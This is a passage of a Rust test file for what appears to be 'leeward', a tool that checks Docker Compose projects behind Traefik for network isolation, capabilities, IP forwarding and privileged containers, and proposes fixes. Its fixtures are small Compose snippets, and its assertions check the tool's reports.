        assert!(told.contains(address), "{told}");
    }
}

/// It was called mended, and the application had lost a database on a network that nobody gave.
#[test]
fn what_leaves_a_network_that_was_not_given_is_an_open_question() {
    let text = "name: lab\nservices: {web: {image: x, networks: [default, databases], labels: {traefik.enable: 'true', \
                traefik.http.routers.w.rule: 'Host(`w.example.com`)'}}}\nnetworks: {databases: {external: true}}";
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("compose.yaml");
    std::fs::write(&path, text).unwrap();
    std::fs::write(folder.path().join("front.yaml"), BOUND).unwrap();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_leeward"));
    let output = command.current_dir(&folder).env_clear().args(["fix", "front.yaml", "compose.yaml"]).output().unwrap();
    let told = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(4), "{told}");
    assert!(told.starts_with("OPEN: ") && told.contains("a network was not given"), "{told}");
    assert!(told.contains("network databases was not given"), "{told}");
}

/// The port of an application that uses another container's network is that one's: it was called one that Traefik does not
/// serve, and wanted an entry point.
#[test]
fn the_port_of_a_rider_is_served_at_whose_network_it_uses() {
    let text = |power: &str| {
        format!(
            "name: meals\nservices:\n  vpn: {{image: x, ports: ['9925:9000']{power}}}\n  mealie: {{image: x, network_mode: \
             'service:vpn', labels: {{traefik.enable: 'true', traefik.http.routers.m.rule: 'Host(`m.example.com`)', \
             traefik.http.services.m.loadbalancer.server.port: '9000'}}}}\n  tv: {{image: x, labels: {{traefik.enable: 'true', \
             traefik.http.routers.t.rule: 'Host(`t.example.com`)'}}}}"
        )
    };
    let front = "name: front\nservices: {t: {image: 'traefik:v3.7', labels: {leeward.traefik: 'true'}}}";
    let strict = Settings { isolation: Isolation::Strict, ..Settings::default() };
    for (power, mended) in [("", true), (", cap_add: [NET_ADMIN], devices: [/dev/net/tun]", false)] {
        let remedies = remedy::ask(&deployed(&[&text(power), front]), &strict, &["meals".to_owned()], &[]).unwrap();
        let told = fix::text(&remedies, fix::Shown::Files);
        assert!(told.contains("vpn: port 9000/tcp, published on 0.0.0.0:9925 of the host"), "{told}");
        assert!(!told.contains("which Traefik does not serve"), "{told}");
        assert_eq!(fix::standing(&remedies) == fix::Standing::Mended, mended, "{told}");
    }
}

/// It was said to be mended, and a VPN of the kernel's own, without `/dev/net/tun`, did not start any more.
#[test]
fn who_loses_net_admin_is_told_what_may_need_it_and_the_other_way() {
    let [front, app] = with_front("x.y: z", "");
    let app = app.replace("cap_drop: [ALL]", "cap_add: [NET_ADMIN]");
    let projects = deployed(&[&front, &app]);
    let settings = Settings::default();
    let remedies = remedy::ask(&projects, &settings, &["app".to_owned()], &[]).unwrap();
    let told = fix::text(&remedies, fix::Shown::Files);
    assert!(told.contains("web: what it needs NET_ADMIN for: a VPN, a firewall, DHCP"), "{told}");
    let plan = leeward::plan::compile(&projects, &settings);
    let explained = leeward::report::explain::find(&plan, "app-web-1").text();
    assert!(
        explained.contains("do not route it, or allow it:\n           labels:\n             leeward.allow: NET-014"),
        "{explained}"
    );
}

/// Traefik's project and an application on its network, with labels in YAML for each.
fn with_front(front: &str, app: &str) -> [String; 2] {
    [
        format!(
            "name: front\nservices: {{traefik: {{image: 'traefik:v3.6', networks: [p], labels: {{leeward.traefik: 'true', \
             {front}}}}}}}\nnetworks: {{p: {{name: p, internal: true}}}}"
        ),
        format!(
            "name: app\nservices: {{web: {{image: x, networks: [p], cap_drop: [ALL], labels: {{traefik.enable: 'true', \
             traefik.http.services.web.loadbalancer.server.port: '80', traefik.http.routers.web.rule: 'Host(`a.example`)'{app}}}}}}}\n\
             networks: {{p: {{external: true}}}}"
        ),
    ]
}

/// Traefik leaves the router out; it was said to be routed, and that there is nothing to fix.
#[test]
fn a_router_that_traefik_leaves_out_is_not_fine() {
    let middleware = ", traefik.http.routers.web.middlewares: auth";
    let declares = "traefik.http.middlewares.auth.basicauth.users: 'a:b'";
    let dashboard = "traefik.enable: 'true', traefik.http.routers.dash.rule: 'Host(`d.example`)', \
                     traefik.http.routers.dash.service: 'api@internal'";
    let told = |front: &str, app: &str| {
        let [front, app] = with_front(front, app);
        let remedies = asked(&deployed(&[&front, &app]), "app");
        (fix::standing(&remedies), fix::text(&remedies, fix::Shown::Files))
    };
    let (standing, text) = told(&format!("traefik.enable: 'true', {declares}"), middleware);
    assert!(standing == fix::Standing::Mended && text.starts_with("Nothing to fix"), "{text}");
    // Who declares it is refused.
    let (standing, text) = told(&format!("{dashboard}, {declares}"), middleware);
    assert!(standing == fix::Standing::Left && text.starts_with("NOT MENDED: 1 container"), "{text}");
    for wanted in
        ["left out by Traefik", "middleware `front.auth`", "`front-traefik-1` declares it, and is refused", "LBL-004"]
    {
        assert!(text.contains(wanted), "{wanted}: {text}");
    }
    assert!(text.contains("--allow-reference api@internal"), "the remedy of that: {text}");
    // No such service.
    let (standing, text) = told("a: b", ", traefik.http.routers.web.service: wbe");
    assert!(standing == fix::Standing::Left && text.contains("declares service `app.wbe`"), "{text}");
}

/// `check` refuses it, and `fix` said that there was nothing to fix.
#[test]
fn a_container_whose_wish_cannot_be_read_is_not_forgotten() {
    let [front, app] = with_front("a: b", "");
    let app = app.replace("traefik.enable: 'true'", "traefik.enable: treu");
    let inventory = deployed(&[&front, &app]);
    let remedies = asked(&inventory, "app");
    let text = fix::text(&remedies, fix::Shown::Files);
    assert!(text.starts_with("NOT MENDED: 1 container") && text.contains("bad-label"), "{text}");
    assert_eq!(fix::standing(&remedies), fix::Standing::Left);
    // Beside one that is refused for its networks.
    let two = app.replace(
        "services: {",
        "services: {other: {image: x, labels: {traefik.enable: 'true', traefik.http.routers.o.rule: 'Host(`o.example`)', \
         traefik.http.services.o.loadbalancer.server.port: '80'}}, ",
    );
    let remedies = asked(&deployed(&[&front, &two]), "app");
    let text = fix::text(&remedies, fix::Shown::Files);
    assert!(text.starts_with("NOT MENDED: 1 container") && text.contains("bad-label"), "{text}");
    assert!(text.contains("1 of 2 routed and isolated"), "{text}");
}

/// What the author wrote stayed, nothing was said of it, and `check` found it afterwards.
#[test]
fn forwarding_that_a_file_turns_on_is_turned_off_and_named() {
    let [front, app] = with_front("a: b", "");
    let app = app.replace(
        "networks: [p],",
        "networks: [p, default], sysctls: {net.ipv4.ip_forward: 1, net.ipv4.conf.all.forwarding: 1},",
    );
    let app = app
        .replace("\nnetworks: {", "\nnetworks: {default: {}, ")
        .replace("services: {", "services: {db: {image: x}, ");
    let remedies = asked(&deployed(&[&front, &app]), "app");
    let text = fix::text(&remedies, fix::Shown::Files);
    let wanted = [
        "sysctl net.ipv4.ip_forward=0",
        "sysctl net.ipv4.conf.all.forwarding=0",
        "what it needs net.ipv4.ip_forward=1 for",
        "what it needs net.ipv4.conf.all.forwarding=1 for",
    ];
    for wanted in wanted {
        assert!(text.contains(wanted), "{wanted}: {text}");
    }
    let after = leeward::plan::compile(&remedies.after, &Settings::default());
    assert!(
        !after.findings.iter().any(|it| it.rule.as_str() == "NET-012" && it.subject.name() == "app-web-1"),
        "{text}"
    );
}

/// Whatever a privileged container drops, it has.
#[test]
fn nothing_is_dropped_where_that_does_not_help() {
    let [front, app] = with_front("a: b", "");
    let app = app.replace("cap_drop: [ALL],", "privileged: true,");
    let settings = Settings { isolation: Isolation::Strict, ..Settings::default() };
    let inventory = deployed(&[&front, &app]);
    let plan = leeward::plan::compile(&inventory, &settings);
    let finding = plan.findings.iter().find(|it| it.rule.as_str() == "NET-013" && it.subject.name() == "app-web-1");
    let remedy = serde_json::to_value(finding.unwrap()).unwrap()["remedy"].to_string();
    assert!(remedy.contains("delete `privileged: true`"), "{remedy}");
    // One beside it that does not ask, and that nothing refuses.
    let beside = app.replace("services: {", "services: {box: {image: x, networks: [default], privileged: true}, ");
    let beside = beside.replace("networks: [p], privileged: true", "networks: [p, default], cap_drop: [ALL]");
    let remedies = asked(&deployed(&[&front, &beside]), "app");
    let file = fix::compose(&remedies, &Owner::Group("app".to_owned())).unwrap();
    let services = &read(&file)["services"];
    assert!(services["box"]["cap_drop"].is_null(), "{file}");
}
